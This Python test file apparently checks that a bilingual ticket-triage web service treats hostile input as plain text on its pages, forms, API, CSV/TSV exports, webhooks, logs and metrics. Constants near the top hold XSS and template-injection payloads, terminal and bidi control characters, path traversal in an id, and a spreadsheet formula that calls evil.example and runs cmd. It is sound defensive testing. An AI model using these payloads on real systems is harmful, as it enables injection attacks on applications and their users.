"""Text that wants to be a program, in every field and in both languages, on every page, in every file and message, in logs and metrics."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient
from hooked import SECRET, receiver, standard, until
from httpx2 import Response
from prometheus_client.parser import text_string_to_metric_families
from reviewing_pages import answer, field, person, routes
from serving import Served

from llmtriage import Taxonomy, Ticket
from llmtriage.review_files import export
from llmtriage.service.hooks import telling
from llmtriage.store import accounts

Serve = Callable[..., Served]

MARK = "kwijibo"  # stands in all that is hostile, and nowhere else
HTML = f"<script>alert('{MARK}')</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>退款</a> \" ' onfocus=alert(1) &amp;"
TEMPLATES = "{{91*97}} {% for x in range(9) %}{{x}}{% endfor %} ${91*97} #{91*97}"  # 8827
CONTROLS = "\x1b]0;title\x07\x1b[2J\x9b31m \u202egnp.exe\u202c \u2066\u200b\u200f\ufeff \u2028"
FORMULA = f'=HYPERLINK("http://evil.example/?"&A1;"{MARK} 点这里")+cmd|\' /C calc\'!A0'
PLAIN = f"<script>alert('{MARK}')</script> =1+1 {{{{91*97}}}}"  # where only ASCII may stand
LONG = "W" * 700 + "长" * 700
BROKEN = "\0 \ud800"  # which JSON over the wire may not hold, but files did
NAME = f"<b>{MARK}<b>\"'{{{{91*97}}}}<script>x"  # people are named by visible text without a slash
TEXTS = {
    "en": f"{FORMULA} {HTML} {TEMPLATES} {CONTROLS} where is my refund? {LONG}",
    "zh": f"{FORMULA} {HTML} {TEMPLATES} {CONTROLS} 我的退款还没有到账 {LONG}",
}
FORBIDDEN = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufeff]")
ADDRESSES = ("href", "src", "action", "formaction", "hx-get", "hx-post", "data")
TAXONOMY = Taxonomy.model_validate(
    {
        "version": 1,
        "categories": [
            {
                "id": name,
                "name": {"en": f"{HTML} {TEMPLATES}", "zh": f"{HTML} 退款"},
                "description": {"en": HTML, "zh": f"{TEMPLATES} 退款"},
                "includes": [{"en": HTML, "zh": HTML}],
                "excludes": [{"en": TEMPLATES, "zh": TEMPLATES}],
            }
            for name in ("refund", "parcel")
        ],
    }
)


class Page(HTMLParser):
    """What a browser makes of a page: elements that would run or go somewhere."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Only what the templates say."""
        given = {name: value or "" for name, value in attrs}
        if tag in ("img", "iframe", "object", "embed", "base", "style", "b") or (tag == "script" and "src" not in given):
            self.faults.append(f"<{tag}>")
        self.faults += [f"{name}={value}" for name, value in given.items() if name.startswith("on") or name == "style"]
        for name in ADDRESSES:
            if name in given and not re.match(r"/(?![/\\])|#|data:,$", given[name]):
                self.faults.append(f"{tag} {name}={given[name][:40]}")


def ticket(n: int, language: str) -> dict[str, Any]:
    """Hostile in each of its fields."""
    short = f"{FORMULA[:60]}{HTML[:60]}{CONTROLS}"
    return {
        "id": f"{n}{short}/../{language}",
        "title": TEXTS[language][:2_000],
        "content": TEXTS[language],
        "channel": short,
        "language": f"{language}{HTML[:30]}",
        "customer": short,
        "metadata": {short: HTML, "{{91*97}}": TEXTS[language][:1_000]},
    }


def filled(served: Served) -> None:
    """Tickets in both languages wait, also some that came from a file."""
    for n, language in enumerate(("en", "zh")):
        reply = served.client.post("/classify/single", json=ticket(n, language))
        assert reply.status_code == 200
        assert reply.headers["content-type"] == "application/json"
    broken = ticket(9, "zh")
    old = Ticket(**{**broken, "id": "file", "title": BROKEN + broken["title"], "content": BROKEN + broken["content"]})
    list(served.service.versions.current.triage.classify_many([old]))


def asked(served: Served, browser: TestClient, language: str) -> Iterator[Response]:
    """Each route that can be asked: with what is there, and with hostile text in each of its parameters."""
    wait = [item.entry for item in served.store.queue.page().items]
    for route in routes(browser.app.routes):  # type: ignore[attr-defined]
        if "GET" not in (route.methods or ()):
            continue
        paths = [re.sub(r"\{[^}]*\}", value, route.path) for value in (*map(str, wait), quote(ticket(0, "en")["id"], safe=""))]
        for path in dict.fromkeys(paths):
            yield browser.get(path)
        known = {one.name for one in route.dependant.query_params} | {"find", "said", "of", "next", "lang", "language", "similar"}
        yield browser.get(paths[0], params=dict.fromkeys(known, TEXTS[language][:400]))
        yield browser.get(paths[0], params={"find": HTML, "of": HTML, "said": HTML, "language": HTML[:35], "next": f"/{HTML}"})
        yield browser.get(
            paths[0], params={"find": "refund", "of": HTML, "said": "saved", "similar": "1", "next": f"/{TEMPLATES}"}
        )


def check(reply: Response) -> None:
    """It says what it is, and a page is nothing but what the templates say."""
    kind = reply.headers["content-type"].split(";")[0]
    assert reply.status_code < 500, reply.url
    assert reply.headers["x-content-type-options"] == "nosniff"
    if kind in ("application/json", "application/problem+json"):
        json.loads(reply.text)
        return
    if kind != "text/html":
        assert MARK not in reply.text
        return
    text = reply.content.decode("utf-8")
    assert Page(text).faults == [], reply.url
    assert not FORBIDDEN.search(text), reply.url
    assert "8827" not in re.sub("[0-9a-f]{64}", "", text), reply.url  # a token may hold it by chance
    policy = reply.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert reply.headers["cache-control"] == "no-store"


@pytest.mark.parametrize("language", ["en", pytest.param("zh", marks=pytest.mark.slow)])
def test_every_page_shows_it_as_text(serve: Serve, language: str) -> None:
    """Whatever route there is, and whoever is named how."""
    served = serve(triage={"taxonomy": TAXONOMY}, second=0.0)
    filled(served)
    browser = person(served, name=NAME, language=language)
    page = browser.get("/review/next")
    while page.url.path != "/review":  # each is lent once; the first ones are answered
        check(page)
        shown = page.text.split('id="card"')[1]
        assert "&lt;script&gt;" in shown
        assert "{{91*97}}" in shown
        assert 'class="content" dir="auto">' in shown
        given = {"action": "skip"} if served.store.queue.history(NAME) else {"answer": "refund", "note": TEXTS[language]}
        page = answer(browser, page, script=False, **given)
    replies = list(asked(served, browser, language))
    for reply in replies:
        check(reply)
    told = {reply.url.path for reply in replies if MARK in reply.text and reply.headers["content-type"].startswith("text/html")}
    assert {"/review", "/review/history", "/overview", "/login", "/review/categories"} <= told


@pytest.mark.slow
def test_every_form_takes_it_as_text(serve: Serve) -> None:
    """In each of its fields, on pages and in the API."""
    served = serve(triage={"taxonomy": TAXONOMY})
    filled(served)
    browser = person(served, name=NAME)
    page = browser.get("/review/next")
    usual = {name: field(page, name) for name in ("csrf", "token", "text")}
    for route in routes(browser.app.routes):  # type: ignore[attr-defined]
        path = re.sub(r"\{[^}]*\}", page.url.path.rsplit("/", 1)[1], route.path)
        if "POST" not in (route.methods or ()) or path in ("/logout", "/versions/back", "/versions/reload"):
            continue
        for name in ("answer", "action", "note", "active_ms", "name", "password", "next", "token", "text"):
            check(browser.post(path, data={**usual, name: TEXTS["zh"][:3_000] + "\0"}, headers={"Accept-Language": "zh"}))
        broken = b"&note=%ed%a0%80%00%1b&name=%ed%a0%80&next=%ed%a0%80"
        form = {"content-type": "application/x-www-form-urlencoded"}
        check(browser.post(path, content=f"csrf={usual['csrf']}&token=1".encode() + broken, headers=form))
        check(browser.post(path, json={"reviewer": NAME, "items": [{"id": HTML, "category": HTML, "note": HTML}], "note": HTML}))


@pytest.mark.parametrize("name", ["a/b", "a\0b", "\u202ea", "a\u200bb", "a\x1b[2Jb", "a\nb"])
def test_nobody_is_named_by_what_cannot_be_seen(serve: Serve, name: str) -> None:
    """Neither here nor by password."""
    served = serve()
    form = {"csrf": field(served.client.get("/login"), "csrf"), "name": name}
    refused = served.client.post("/login", data=form)
    assert refused.status_code == 422
    check(refused)
    accounts.add(served.store.database, "Mei", "a long password", "reviewer")
    refused = served.client.post("/login", data={**form, "password": TEXTS["zh"][:500]})
    assert refused.status_code in (403, 422)
    check(refused)


@pytest.mark.parametrize("kind", ["csv", "tsv", "jsonl"])
def test_exports_hold_no_formula(serve: Serve, tmp_path: Path, kind: str) -> None:
    """A spreadsheet shows each cell as text; JSON Lines hold exactly what came."""
    served = serve(triage={"taxonomy": TAXONOMY})
    filled(served)
    file = tmp_path / f"waiting.{kind}"
    queue = served.store.queue
    assert export(queue.each(), file, store=queue.mark, language="zh") == 3
    lines = file.read_bytes().decode("utf-8-sig")
    if kind == "jsonl":
        rows = [json.loads(line) for line in lines.splitlines()]
        assert [row["content"] for row in rows if row["id"] == ticket(1, "zh")["id"]] == [TEXTS["zh"]]
        return
    rows = list(csv.DictReader(lines.splitlines(keepends=True), delimiter="," if kind == "csv" else "\t"))
    assert len(rows) == 3
    assert "\0" not in lines
    for row in rows:
        assert not [cell for cell in row.values() if re.match(r"[=+\-@\t\r\n]", cell)]
    assert rows[0]["content"] == f"'{TEXTS['en']}"


def test_the_api_gives_it_back_unchanged(serve: Serve) -> None:
    """As JSON, whatever its name is: queue, ticket, overview, and what is told of a mistake."""
    served = serve(triage={"taxonomy": TAXONOMY})
    filled(served)
    items = {item["id"]: item for item in served.client.get("/queue").json()["items"]}
    one = ticket(1, "zh")
    shown = items[one["id"]]
    assert {name: shown[name] for name in one} == one
    assert served.client.get(f"/tickets/{quote(one['id'], safe='')}").json()["id"] == one["id"]
    assert MARK not in served.client.get("/overview.json").text
    wrong = served.client.post("/classify/single", json={"content": HTML, "metadata": HTML, HTML: HTML})
    assert wrong.status_code == 422
    assert MARK not in wrong.text


def test_hooks_logs_and_metrics_hold_none_of_it(
    serve: Serve, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A message that comes in becomes text, one that goes out has no text; neither they nor pages leave any in logs and labels."""
    caplog.set_level("DEBUG")
    monkeypatch.setenv("CRM_SECRET", SECRET)
    monkeypatch.setattr(telling, "LOOK", 0.02)
    with receiver() as crm:
        callback = {"url": crm.url, "secret_env": "CRM_SECRET", "private": True}
        served = serve(
            triage={"taxonomy": TAXONOMY}, callbacks={"crm": callback}, hooks={"crm": {"secret_env": "CRM_SECRET"}}, second=0.0
        )
        one = ticket(1, "zh")
        for n, said in enumerate((one, {**one, "id": "broken", "content": "\ud800"}, {**one, HTML: HTML}, HTML)):
            body = json.dumps(said).encode()
            reply = served.client.post("/hooks/crm", content=body, headers=standard(f"{PLAIN}{n}", body))
            check(reply)
            assert MARK not in reply.text
        [item] = until(lambda: served.store.queue.page().items)
        assert (item.ticket.id, item.ticket.content) == (one["id"], one["content"])
        browser = person(served, name=NAME)
        answer(browser, browser.get("/review/next"), answer="refund", note=HTML)
        browser.get(f"/{quote(HTML)}?{quote(HTML)}", headers={"X-Request-ID": PLAIN, "User-Agent": PLAIN})
        [heard] = until(lambda: crm.heard)
        said = heard.said
        assert (said["data"].pop("id"), said["data"].pop("reviewer")) == (one["id"], NAME)
        assert MARK not in json.dumps([said, heard.headers])
        figures = served.client.get("/metrics").text
    assert MARK not in figures
    assert "<script" not in figures
    assert list(text_string_to_metric_families(figures))
    lines = [record.getMessage() for record in caplog.records if record.name.startswith("llmtriage")]
    assert lines
    assert not [line for line in lines if MARK in line or FORBIDDEN.search(line)]
